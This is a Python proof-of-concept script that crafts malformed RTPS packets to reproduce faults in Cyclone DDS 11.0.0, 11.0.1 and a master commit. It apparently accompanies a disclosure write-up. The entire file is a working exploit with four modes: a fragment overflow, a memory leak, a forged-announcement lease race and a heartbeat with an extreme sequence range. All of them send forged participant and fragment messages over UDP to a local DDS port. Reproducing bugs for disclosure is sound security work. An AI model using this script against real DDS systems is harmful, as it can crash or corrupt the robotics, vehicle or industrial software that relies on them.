"""Reproduces faults of Cyclone DDS 11.0.0, 11.0.1 and master (4c1beb205). See cyclonedds.md.

    python cyclonedds.py FAULT PORT     # FAULT: overflow, lease, leak, heartbeat; PORT: of a participant on 127.0.0.1, 7410 for the first in domain 0
"""

import os
import socket
import struct
import sys
import time

fault, port = sys.argv[1], int(sys.argv[2])
prefix = b"\x01\x10" + os.urandom(10)  # Vendor: Cyclone DDS
out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
out.bind(("127.0.0.1", 0))
PUBLICATIONS = bytes.fromhex("000003c7 000003c2")  # SEDP's reader and writer


def send(*submessages):
    out.sendto(b"RTPS\2\1\1\x10" + prefix + b"".join(submessages), ("127.0.0.1", port))


def submessage(kind, body, flags=1):
    return struct.pack("<BBH", kind, flags, len(body)) + body


def sequence_number(number):
    return struct.pack("<II", number >> 32, number & 0xFFFFFFFF)


def parameter(pid, value):
    return struct.pack("<HH", pid, len(value)) + value


def announce(lease):
    address = struct.pack("<iI", 1, out.getsockname()[1]) + bytes(12) + socket.inet_aton("127.0.0.1")
    parameters = (
        (0x15, b"\2\1\0\0"), (0x16, b"\1\x10\0\0"), (0x50, prefix + b"\0\0\1\xc1"), (0x58, struct.pack("<I", 0xC3F)),
        (0x31, address), (0x32, address), (0x02, struct.pack("<iI", lease, 0)), (0x01, b""),
    )  # fmt: skip
    payload = b"\0\3\0\0" + b"".join(parameter(*p) for p in parameters)
    send(submessage(0x15, struct.pack("<HH", 0, 16) + bytes.fromhex("00000000 000100c2") + sequence_number(1) + payload, flags=5))


def heartbeat(first, last, count):
    send(submessage(0x07, PUBLICATIONS + sequence_number(first) + sequence_number(last) + struct.pack("<I", count)))


def fragment(number, first, count, size, total, payload):
    body = struct.pack("<HH", 0, 28) + PUBLICATIONS + sequence_number(number) + struct.pack("<IHHI", first, count, size, total)
    send(submessage(0x16, body + payload))


if fault == "lease":
    # The first one ends it mostly; it is a race.
    for _ in range(2000):
        prefix = b"\x01\x10" + os.urandom(10)
        announce(lease=0)
        time.sleep(0.0005)
else:
    announce(lease=3)
    time.sleep(0.5)
    if fault == "heartbeat":
        heartbeat(1, 2**64 - 1, 1)
    for number in range(1, {"overflow": 100, "leak": 2000}.get(fault, 0)):
        heartbeat(number, number, number)
        if fault == "overflow":
            fragment(number, 1, 1, 1000, 2000, b"\0\3\0\0" + b"A" * 996)
            fragment(number, 2, 60, 1000, 61000, b"B" * 60000)
        else:
            fragment(number, 3, 60, 1000, 70000, b"C" * 60000)
            fragment(number, 1, 1, 500, 1500, b"\0\3\0\0" + b"A" * 496)
            fragment(number, 2, 2, 500, 1500, b"B" * 1000)
        time.sleep(0.001)
